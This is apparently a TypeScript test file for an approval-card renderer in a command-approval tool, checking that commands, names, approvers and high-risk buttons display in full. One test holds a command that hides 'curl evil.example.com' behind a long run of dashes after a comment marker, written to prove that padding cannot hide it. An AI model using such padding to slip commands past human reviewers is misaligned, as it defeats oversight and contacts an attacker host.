// The dialog of a card has all of a command, of images and of settings.
import { expect, test } from 'vitest'
import type { Card } from '../../../src/engine/cards/card.ts'
import { renderDetails } from '../../../src/engine/cards/render-details.ts'
import { resolveCommand } from '../../../src/features/exec/allowed-command.ts'
import { aCard } from '../../builders.ts'
import { textOf } from '../../world/text-of.ts'
import { quotes } from '../../worst.ts'

const details = (plan: Partial<Card['plan']>) => textOf({ text: '', blocks: renderDetails(aCard({ plan })) } as never)

test('padding of any visible kind hides neither the end nor the length', () => {
  const verbatim = `sh -c 'uptime # ${'-'.repeat(1_700)}; curl evil.example.com'`
  expect(details({ verbatim })).toContain(verbatim)
})

test('images and settings are text with any name', () => {
  expect(details({ details: ['Image of app: a*b* → `c`'] })).toContain('Image of app: a*b* → `c`')
})

test('names are whole, and the account has its id', () => {
  const name = 'orders-api-with-a-name-that-no-card-has-room-for'
  const text = details({ title: `Scale *${name}* 4 → 6` })
  expect(text).toContain(`Scale ${name} 4 → 6`)
  expect(text).toContain('prod 1111-2222-3333 · us-east-1')
})

test('each group and person who may approve is named', () => {
  const approvers = ['S0OPS', 'S0ONCALL', 'U1', 'U2', 'U3', 'U4']
  const text = textOf({ text: '', blocks: renderDetails(aCard({ approval: { approvers } })) } as never)
  expect(text).toContain('From @S0OPS, @S0ONCALL, @U1, @U2, @U3, @U4')
})

test('a high risk is approved with a button in the colour of danger', () => {
  const [approve] = renderDetails(aCard({ plan: { risk: { level: 'high', reasons: [] } } }))
    .filter(({ type }) => type === 'actions')
    .flatMap(({ elements }) => elements as never[])
  expect(approve).toMatchObject({ action_id: 'decide:approve', style: 'danger' })
})

test('what the details have no room for is refused', () => {
  const rules = { commands: { long: { argv: ['echo', 'x'.repeat(8_000)], parameters: {} } }, deny: [], unlogged: [] }
  expect(resolveCommand('long', rules, {})).toMatchObject({ text: '`long` is too long to show on a card.' })
  expect(resolveCommand(`echo ${"'".repeat(2_100)}`, rules, {})).toMatchObject({
    text: 'This command is too long to show on a card.',
  })
  expect(resolveCommand(quotes(1_900), rules, {})).toMatchObject({ argv: expect.anything() })
})
